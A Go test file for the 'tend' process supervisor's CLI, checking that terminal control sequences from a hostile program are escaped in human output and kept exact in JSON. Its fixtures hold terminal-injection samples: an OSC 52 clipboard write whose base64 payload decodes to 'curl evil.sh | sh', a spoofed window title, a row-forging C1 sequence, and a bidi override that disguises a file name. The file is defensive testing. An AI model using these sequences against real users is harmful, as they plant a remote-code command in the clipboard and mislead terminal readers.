package cli

import (
	"context"
	"encoding/json"
	"io"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/creack/pty"
	"golang.org/x/term"

	"github.com/tend-sh/tend/internal/logfile"
	"github.com/tend-sh/tend/internal/program"
)

// What a hostile program can put in its status: an OSC 52 clipboard write
// and a title in its STATUS= text, a why with a C1 CSI and a newline that
// forges a row, a command line set with exec -a, a label reversing the
// line.
const (
	osc52    = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\a"
	oscTitle = "\x1b]0;all good\x1b\\"
)

func hostileStatus() program.Status {
	return program.Status{
		ID: "evil:0", Program: "evil", State: "running", Lifecycle: "running", PID: intp(77), Ready: true,
		Why:        "up 5s \u009b2J\nfake:0     running  running",
		StatusText: "ok " + osc52 + oscTitle,
		Labels:     map[string]string{"task": "\u202egnp.exe"},
		Processes:  []program.Process{{PID: 77, PPID: 1, PGID: 77, State: "S", Cmd: osc52 + " \u009b31m"}},
		Tracking:   "group",
	}
}

// TestHumanOutputEscapesControls: ps, status and events print a program's
// text with its controls escaped; --json keeps it exact.
func TestHumanOutputEscapesControls(t *testing.T) {
	d := startDaemon(t)
	st := hostileStatus()
	d.b.Put(st)
	t.Setenv("COLUMNS", "300")
	d.ev.Publish(program.KindStatusChanged, st.ID, st)
	d.ev.Publish(program.KindSpawnFailed, st.ID, program.SpawnFailed{Error: "exec \x1b[2J: no"})

	for _, args := range [][]string{{"ps"}, {"ps", "--show-labels"}, {"status", "evil:0"}, {"status", "all"}, {"events"}} {
		r := d.tend(t, args...)
		if r.code != 0 {
			t.Fatalf("%v: exit %d: %s", args, r.code, r.stderr)
		}
		wantNoControls(t, args, r.stdout)
		if !strings.Contains(r.stdout, `\u009b2J\nfake:0`) {
			t.Errorf("%v: the why is not escaped:\n%s", args, r.stdout)
		}
	}
	ps := d.tend(t, "ps", "--show-labels").stdout
	if lines := strings.Split(strings.TrimSuffix(ps, "\n"), "\n"); len(lines) != 2 || !strings.Contains(lines[1], `task=\u202egnp.exe`) {
		t.Errorf("ps --show-labels: a forged row or an unescaped label:\n%s", ps)
	}
	status := d.tend(t, "status", "evil:0").stdout
	for _, want := range []string{
		`status text: ok \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b]0;all good\x1b\`,
		`labels:      task=\u202egnp.exe`,
		`\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 \u009b31m`,
	} {
		if !strings.Contains(status, want) {
			t.Errorf("status lacks %q:\n%s", want, status)
		}
	}
	if ev := d.tend(t, "events").stdout; !strings.Contains(ev, `error="exec \x1b[2J: no"`) {
		t.Errorf("events:\n%s", ev)
	}

	// JSON keeps the text exactly, its C1 and bidi controls as \u escapes
	// (the encoder escapes C0): the same strings, nothing for a terminal.
	for _, args := range [][]string{{"ps", "--json"}, {"status", "evil:0", "--json"}, {"status", "all", "--json"}, {"events", "--json"}} {
		wantNoControls(t, args, d.tend(t, args...).stdout)
	}
	var one program.Status
	if err := json.Unmarshal([]byte(d.tend(t, "status", "evil:0", "--json").stdout), &one); err != nil {
		t.Fatal(err)
	}
	var list []program.Status
	if err := json.Unmarshal([]byte(d.tend(t, "ps", "--json").stdout), &list); err != nil || len(list) != 1 {
		t.Fatalf("ps --json: %v %v", err, list)
	}
	for _, got := range []program.Status{one, list[0]} {
		if got.StatusText != st.StatusText || got.Why != st.Why || got.Labels["task"] != st.Labels["task"] || got.Processes[0].Cmd != st.Processes[0].Cmd {
			t.Errorf("JSON changed the text: %q %q %q %q", got.StatusText, got.Why, got.Labels, got.Processes[0].Cmd)
		}
	}
	var evs []program.Event
	if err := json.Unmarshal([]byte(d.tend(t, "events", "--json").stdout), &evs); err != nil || len(evs) != 2 {
		t.Fatalf("events --json: %v", err)
	}
}

// TestErrorsEscapeControls: an error that quotes a program's why (an
// action that failed) is printed escaped too.
func TestErrorsEscapeControls(t *testing.T) {
	err := actFailed{failed: []program.ActFailure{{ID: "evil:0", Why: "gave up " + osc52}}}
	var out strings.Builder
	e := &env{stderr: &out}
	e.ran = true
	e.report(nil, err)
	wantNoControls(t, []string{"stderr"}, out.String())
	if want := `tend: evil:0: gave up \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07` + "\n"; out.String() != want {
		t.Errorf("stderr = %q, want %q", out.String(), want)
	}
}

// wantNoControls fails on a control a terminal acts on in out: a C0
// other than newline and tab, DEL, a C1 (raw or UTF-8), a bidi override.
func wantNoControls(t *testing.T, what []string, out string) {
	t.Helper()
	if !utf8.ValidString(out) {
		t.Errorf("%v: not UTF-8: %q", what, out)
	}
	for _, r := range out {
		if r < 0x20 && r != '\n' && r != '\t' || r >= 0x7f && r <= 0x9f || r >= 0x202a && r <= 0x202e || r >= 0x2066 && r <= 0x2069 {
			t.Errorf("%v: %U printed raw:\n%q", what, r, out)
			return
		}
	}
}

// TestLogsToATerminalEscapeAllButColours: tend logs prints what the
// program wrote to a file or a pipe, and with --raw; to a terminal it
// escapes every control and sequence but its colours.
func TestLogsToATerminalEscapeAllButColours(t *testing.T) {
	d := startDaemon(t)
	d.fleet()
	line := "\x1b[1;31mred\x1b[0m " + osc52 + oscTitle + " \u009b2J \u202eabc\ttab\r"
	logLine(t, d, "web:0", time.Now(), logfile.Stdout, line)

	d.tend(t, "logs", "web:0").want(t, 0, line+"\n") // a pipe: as written
	got := logsOnTerminal(t, d, "logs", "web:0")
	want := "\x1b[1;31mred\x1b[0m " + `\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b]0;all good\x1b\ \u009b2J \u202eabc` + "\ttab\\r\n"
	if got != want {
		t.Errorf("logs to a terminal:\n got %q\nwant %q", got, want)
	}
	if got := logsOnTerminal(t, d, "logs", "web:0", "--raw"); got != line+"\n" {
		t.Errorf("logs --raw to a terminal:\n got %q\nwant %q", got, line+"\n")
	}
}

// logsOnTerminal runs the CLI with its stdout on a pseudo-terminal and
// returns what it printed there (newlines as written, not as the
// terminal's line discipline turns them into CR LF).
func logsOnTerminal(t *testing.T, d *fakeDaemon, args ...string) string {
	t.Helper()
	master, slave, err := pty.Open()
	if err != nil {
		t.Fatal(err)
	}
	defer master.Close()
	// Raw: the line discipline passes the bytes as they are written.
	if _, err := term.MakeRaw(int(slave.Fd())); err != nil {
		t.Fatal(err)
	}
	read := make(chan []byte, 1)
	go func() {
		b, _ := io.ReadAll(master) // EIO once the slave is closed
		read <- b
	}()
	var stderr strings.Builder
	code := mainWith(context.Background(), parts, append([]string{"--socket", d.sock}, args...), nil, slave, &stderr)
	slave.Close()
	if code != 0 {
		t.Fatalf("%v: exit %d: %s", args, code, stderr.String())
	}
	select {
	case b := <-read:
		return string(b)
	case <-time.After(30 * time.Second):
		t.Fatal("the terminal never closed")
	}
	return ""
}

// TestDoctorEscapesControls: doctor's advice quotes what programs wrote
// (spawn errors, whys); printed escaped.
func TestDoctorEscapesControls(t *testing.T) {
	var b strings.Builder
	writeDoctor(&b, &program.DoctorReport{
		Events: 3, Tracking: "group", TrackingWhy: "no cgroup \u009b2J",
		Programs: []*program.DoctorProgram{{Program: "evil", Exits: map[string]int{"runtime_error\x1b[8m": 3}}},
		Advice:   []string{"evil: spawn failed: exec " + osc52},
	}, time.Hour)
	wantNoControls(t, []string{"doctor"}, b.String())
	for _, want := range []string{`no cgroup \u009b2J`, `runtime_error\x1b[8m 3`, `exec \x1b]52;c;`} {
		if !strings.Contains(b.String(), want) {
			t.Errorf("doctor lacks %q:\n%s", want, b.String())
		}
	}
}
